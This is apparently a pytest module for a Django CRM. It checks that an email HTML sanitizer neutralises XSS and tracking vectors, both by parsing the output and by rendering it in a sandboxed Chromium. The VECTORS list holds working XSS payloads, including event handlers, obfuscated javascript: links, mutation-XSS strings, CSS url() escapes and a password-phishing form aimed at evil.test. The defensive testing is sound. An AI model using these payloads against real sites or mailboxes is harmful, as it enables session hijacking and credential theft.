"""crm.html.sanitize_email_html against real XSS and tracking vectors.

Each vector is checked twice: its sanitized HTML parsed back (no script, no
event handler, no URL with a scheme that can run code, no remote image), and
rendered in Chromium, where the raw vector is shown to fire (so the vector is
live in a real browser) and the sanitized one to do nothing and load nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from playwright.sync_api import Browser, Page, sync_playwright

from crm.html import sanitize_email_html
from tests import factories
from tests.ui.conftest import CHROMIUM, CHROMIUM_ARGS

# What a vector runs when it gets through: a function the browser test exposes in every frame.
RUN = "void(pwn())"


@dataclass(frozen=True)
class Vector:
    name: str
    html: str
    runs_raw: bool = False  # Chromium runs the raw vector (on load, or when its links are clicked)
    loads_raw: str = ""  # the URL the raw vector makes Chromium request


VECTORS = [
    Vector("script tag", "<p>Hi</p><script>pwn()</script>", runs_raw=True),
    Vector("script tag in mixed case", "<ScRiPt>pwn()</sCrIpT>", runs_raw=True),
    Vector(
        "remote script", '<script src="https://evil.test/x.js"></script>', loads_raw="https://evil.test/x.js"
    ),
    Vector("img onerror", "<img src=x onerror=pwn()>", runs_raw=True),
    Vector("body onload", "<body onload=pwn()>", runs_raw=True),
    Vector("details ontoggle", "<details open ontoggle=pwn()>x</details>", runs_raw=True),
    Vector("svg onload", "<svg onload=pwn()><circle r=5></circle></svg>", runs_raw=True),
    Vector("script inside svg", "<svg><script>pwn()</script></svg>", runs_raw=True),
    Vector(
        "javascript: link inside svg",
        f'<svg><a xlink:href="javascript:{RUN}"><text x="10" y="20">open</text></a></svg>',
        runs_raw=True,
    ),
    Vector("javascript: href in mixed case", f'<a href="JaVaScRiPt:{RUN}">open</a>', runs_raw=True),
    Vector(
        "javascript: href as decimal entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;void(pwn())">open</a>',
        runs_raw=True,
    ),
    Vector(
        "javascript: href with an entity tab", f'<a href="jav&#x09;ascript:{RUN}">open</a>', runs_raw=True
    ),
    Vector("javascript: href with a newline", f'<a href="java\nscript:{RUN}">open</a>', runs_raw=True),
    Vector(
        "javascript: href behind control characters and spaces",
        f'<a href=" &#14; javascript:{RUN}">open</a>',
        runs_raw=True,
    ),
    Vector("vbscript: href", '<a href="vbscript:msgbox(1)">open</a>'),
    Vector(
        "data: html link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>'
    ),
    Vector(
        "iframe srcdoc",
        '<iframe srcdoc="&lt;script&gt;parent.pwn()&lt;/script&gt;"></iframe>',
        runs_raw=True,
    ),
    Vector("iframe javascript:", '<iframe src="javascript:parent.pwn()"></iframe>', runs_raw=True),
    Vector("object", '<object data="data:text/html,<script>parent.pwn()</script>"></object>'),
    Vector("embed", '<embed src="data:text/html,<script>parent.pwn()</script>">'),
    Vector(
        "noscript mutation",
        '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
        runs_raw=True,
    ),
    Vector(
        "mathml mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph>"
        "</table></mtext></math>",
    ),
    Vector("style expression()", '<div style="width: expression(pwn())">x</div>'),
    Vector("style url(javascript:)", '<div style="background-image: url(javascript:pwn())">x</div>'),
    Vector(
        "style url() behind a CSS escape",
        '<div style="color: red; background: u\\72 l(https://tracker.test/escaped.gif)">x</div>',
        loads_raw="https://tracker.test/escaped.gif",
    ),
    Vector(
        "style sheet",
        "<style>body { background: url(https://tracker.test/sheet.gif) }</style>x",
        loads_raw="https://tracker.test/sheet.gif",
    ),
    Vector(
        "linked style sheet",
        '<link rel="stylesheet" href="https://tracker.test/x.css">',
        loads_raw="https://tracker.test/x.css",
    ),
    Vector(
        "remote image",
        '<img src="https://tracker.test/pixel.gif">',
        loads_raw="https://tracker.test/pixel.gif",
    ),
    Vector("protocol-relative image", '<img src="//tracker.test/relative.gif">'),
    Vector(
        "srcset image",
        '<img srcset="https://tracker.test/srcset.gif 1x">',
        loads_raw="https://tracker.test/srcset.gif",
    ),
    Vector(
        "table background",
        '<table background="https://tracker.test/bg.gif"><tr><td>x</td></tr></table>',
        loads_raw="https://tracker.test/bg.gif",
    ),
    Vector(
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
        loads_raw="https://evil.test/",
    ),
    Vector("base href", '<base href="https://evil.test/"><a href="x">x</a>', loads_raw="https://evil.test/x"),
    Vector(
        "phishing form",
        '<form action="https://evil.test/steal"><input name="password"><button>Sign in</button></form>',
    ),
]
GONE_TAGS = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button"),
    *("meta", "base", "link", "noscript", "body", "details", "mglyph", "mtext", "title"),
}
SAFE_SCHEMES = {"a": {"href": {"http", "https", "mailto", "tel"}}, "img": {"src": {"cid", "data"}}}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def scheme(url: str) -> str:
    found = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", url), re.IGNORECASE)
    return found.group(1).lower() if found else ""


# --- what comes out, parsed back -------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS, ids=lambda v: v.name)
def test_no_vector_leaves_anything_that_runs_or_loads(vector: Vector):
    cleaned = sanitize_email_html(vector.html)

    for tag, attributes in elements(cleaned):
        assert tag not in GONE_TAGS, cleaned
        for name, value in attributes.items():
            assert not name.startswith("on"), cleaned
            assert name not in {"srcset", "background", "action", "formaction", "xlink:href", "srcdoc"}
            if name in SAFE_SCHEMES.get(tag, {}):
                assert scheme(value) in SAFE_SCHEMES[tag][name], cleaned
            if name == "style":
                assert "(" not in value, cleaned
    assert not re.search(r"javascript|vbscript|expression\(|url\(|tracker\.test", cleaned, re.IGNORECASE)


def test_an_ordinary_email_keeps_its_formatting_tables_and_links():
    html = (
        "<html><head><title>Quote</title><style>p { color: red }</style></head><body>"
        '<table width="600" cellpadding="4" style="border-collapse: collapse"><tr>'
        '<td bgcolor="#eeeeee" style="padding: 8px; font-family: Arial, \'Helvetica Neue\'">'
        "<h2>Quote 1001</h2><p>Dear <b>Carl</b>, <i>thank you</i>.</p>"
        '<ul><li>One</li><li>Two</li></ul><blockquote type="cite">Earlier</blockquote>'
        '<a href="https://contoso.test/quote?id=1&amp;v=2" class="button" id="go">View</a> '
        '<a href="mailto:sales@contoso.test">Mail us</a>'
        "</td></tr></table><!-- a comment --></body></html>"
    )

    assert sanitize_email_html(html) == (
        '<table width="600" cellpadding="4" style="border-collapse:collapse"><tbody><tr>'
        '<td bgcolor="#eeeeee" style="padding:8px;font-family:Arial , &quot;Helvetica Neue&quot;">'
        "<h2>Quote 1001</h2><p>Dear <b>Carl</b>, <i>thank you</i>.</p>"
        '<ul><li>One</li><li>Two</li></ul><blockquote type="cite">Earlier</blockquote>'
        '<a href="https://contoso.test/quote?id=1&amp;v=2" target="_blank" rel="noopener noreferrer">'
        "View</a> "
        '<a href="mailto:sales@contoso.test" target="_blank" rel="noopener noreferrer">Mail us</a>'
        "</td></tr></tbody></table>"
    )


def test_links_open_elsewhere_and_tell_the_site_nothing():
    cleaned = sanitize_email_html('<a href="https://x.test/" target="_self" rel="opener">x</a>')
    assert cleaned == '<a href="https://x.test/" target="_blank" rel="noopener noreferrer">x</a>'


def test_relative_links_would_point_into_this_application_and_go():
    assert sanitize_email_html('<a href="/admin/logout/">x</a><a href="#top">y</a>') == (
        '<a target="_blank" rel="noopener noreferrer">x</a><a target="_blank" rel="noopener noreferrer">y</a>'
    )


def test_inline_images_stay_and_remote_images_only_when_asked_for():
    html = (
        '<img src="cid:logo@contoso.test" alt="Contoso">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg">'
        '<img src="https://tracker.test/pixel.gif" alt="pixel" width="1" height="1">'
    )

    blocked = sanitize_email_html(html)
    asked = sanitize_email_html(html, remote_images=True)

    kept = [
        ("img", {"src": "cid:logo@contoso.test", "alt": "Contoso"}),
        ("img", {"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "dot"}),
        # An SVG is a document with scripts of its own: only raster data: images stay.
        ("img", {"alt": "svg"}),
    ]
    pixel = {"alt": "pixel", "width": "1", "height": "1"}
    assert elements(blocked) == [*kept, ("img", pixel)]
    assert elements(asked) == [*kept, ("img", {"src": "https://tracker.test/pixel.gif", **pixel})]


def test_the_opt_in_lets_no_script_or_other_scheme_through():
    cleaned = sanitize_email_html(
        '<img src="javascript:alert(1)"><img src="//tracker.test/p.gif"><img src="ftp://x.test/p.gif">',
        remote_images=True,
    )
    assert cleaned == "<img><img><img>"


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; position: fixed; top: 0; z-index: 9999", "color:red"),
        (
            "color: #333; background-color: rgb(255, 255, 204)",
            "color:#333;background-color:rgb(255, 255, 204)",
        ),
        ("font: 12px/1.5 Arial; text-align: center", "font:12px / 1.5 Arial;text-align:center"),
        ("margin: -400px 0 0 0; padding: 4px", "padding:4px"),
        ("width: expression(alert(1)); height: 10px", "height:10px"),
        ("background-image: url(https://tracker.test/bg.gif); color: blue", "color:blue"),
        ("color: u\\72 l(https://tracker.test/x.gif); font-weight: bold", "font-weight:bold"),
        ("color: var(--x); color: attr(title)", None),
        ('font-family: "a;b"; color: red', "color:red"),
        ("behavior: url(x.htc); -moz-binding: url(x.xml#x)", None),
        (
            "list-style-image: url(https://tracker.test/dot.gif); list-style-type: disc",
            "list-style-type:disc",
        ),
    ],
)
def test_styles_keep_harmless_properties_only(style: str, kept: str | None):
    cleaned = sanitize_email_html(f"<p style='{style}'>x</p>")
    assert cleaned == (f'<p style="{kept}">x</p>' if kept else "<p>x</p>")


def test_ids_names_and_classes_cannot_reach_the_page_around_the_email():
    cleaned = sanitize_email_html('<p id="csrf" class="admin-only" name="x" data-x="1" title="t">x</p>')
    assert cleaned == '<p title="t">x</p>'


def test_nothing_in_nothing_out():
    assert sanitize_email_html("") == ""


# --- the admin -------------------------------------------------------------------------------------

ATTACK = '<p>Hi <b>there</b></p><script>pwn()</script><img src="https://tracker.test/p.gif">'


@pytest.mark.django_db
def test_the_admin_previews_the_sanitized_html_in_a_sandbox_and_never_renders_it_raw(client, world):
    email = factories.email(owner=world["alice"].crm_user, body_html=ATTACK)
    client.force_login(world["admin"].login)

    page = client.get(reverse("admin:crm_emailactivity_change", args=[email.pk])).content.decode()

    frame = re.search(r'<iframe class="email-preview"[^>]*srcdoc="([^"]*)"([^>]*)>', page)
    assert frame is not None
    assert unescape(frame[1]) == sanitize_email_html(ATTACK) == "<p>Hi <b>there</b></p><img>"
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame[0]
    assert "<script>pwn()" not in page  # the raw HTML is only ever shown as escaped source
    assert "&lt;script&gt;pwn()&lt;/script&gt;" in page


# --- rendered in Chromium --------------------------------------------------------------------------
# Last in the module: the browser's event loop stays up until the module ends, and
# Django refuses ORM calls while one runs; nothing below touches the database.


class Sandbox:
    """One browser context that notes, per rendering, whether script ran and what was requested."""

    def __init__(self, browser: Browser) -> None:
        self.ran: list[str] = []
        self.requested: list[str] = []
        self.context = browser.new_context()
        # Nothing leaves the machine: every request (a popup's too) is noted, then refused.
        self.context.route("**/*", lambda route: (self.requested.append(route.request.url), route.abort()))
        self.context.expose_function("pwn", lambda: self.ran.append("ran"))

    def render(self, html: str) -> tuple[bool, list[str]]:
        """Show ``html`` as a page would and click every link: did script run, and what was requested?"""
        self.ran.clear()
        self.requested.clear()
        page = self.context.new_page()
        try:
            page.set_content(f"<!doctype html><html><body>{html}</body></html>")
            _click_links(page)
            page.wait_for_timeout(50)
            return bool(self.ran), list(self.requested)
        finally:
            page.close()


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with sync_playwright() as playwright:
        try:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        except Exception as error:  # a browser that does not launch fails the test, never skips it
            pytest.fail(f"Chromium ({CHROMIUM}) did not launch: {error}", pytrace=False)
        yield Sandbox(browser)
        browser.close()


def _click_links(page: Page) -> None:
    for link in page.locator("a").all():
        link.click(timeout=2_000, no_wait_after=True)


@pytest.mark.slow
def test_in_a_browser_the_raw_vectors_fire_and_the_sanitized_ones_do_nothing(sandbox: Sandbox):
    for vector in VECTORS:
        ran, requested = sandbox.render(vector.html)
        assert ran == vector.runs_raw, f"{vector.name}: the raw vector {'did not run' if not ran else 'ran'}"
        assert (vector.loads_raw in requested) == bool(vector.loads_raw), (vector.name, requested)

        ran, requested = sandbox.render(sanitize_email_html(vector.html))
        assert not ran, f"{vector.name}: the sanitized vector ran"
        assert requested == [], f"{vector.name}: the sanitized vector requested {requested}"


@pytest.mark.slow
def test_in_a_browser_a_remote_image_loads_only_when_asked_for(sandbox: Sandbox):
    html = '<p>Hello</p><img src="https://tracker.test/pixel.gif" alt="pixel">'

    assert sandbox.render(sanitize_email_html(html)) == (False, [])
    assert sandbox.render(sanitize_email_html(html, remote_images=True)) == (
        False,
        ["https://tracker.test/pixel.gif"],
    )
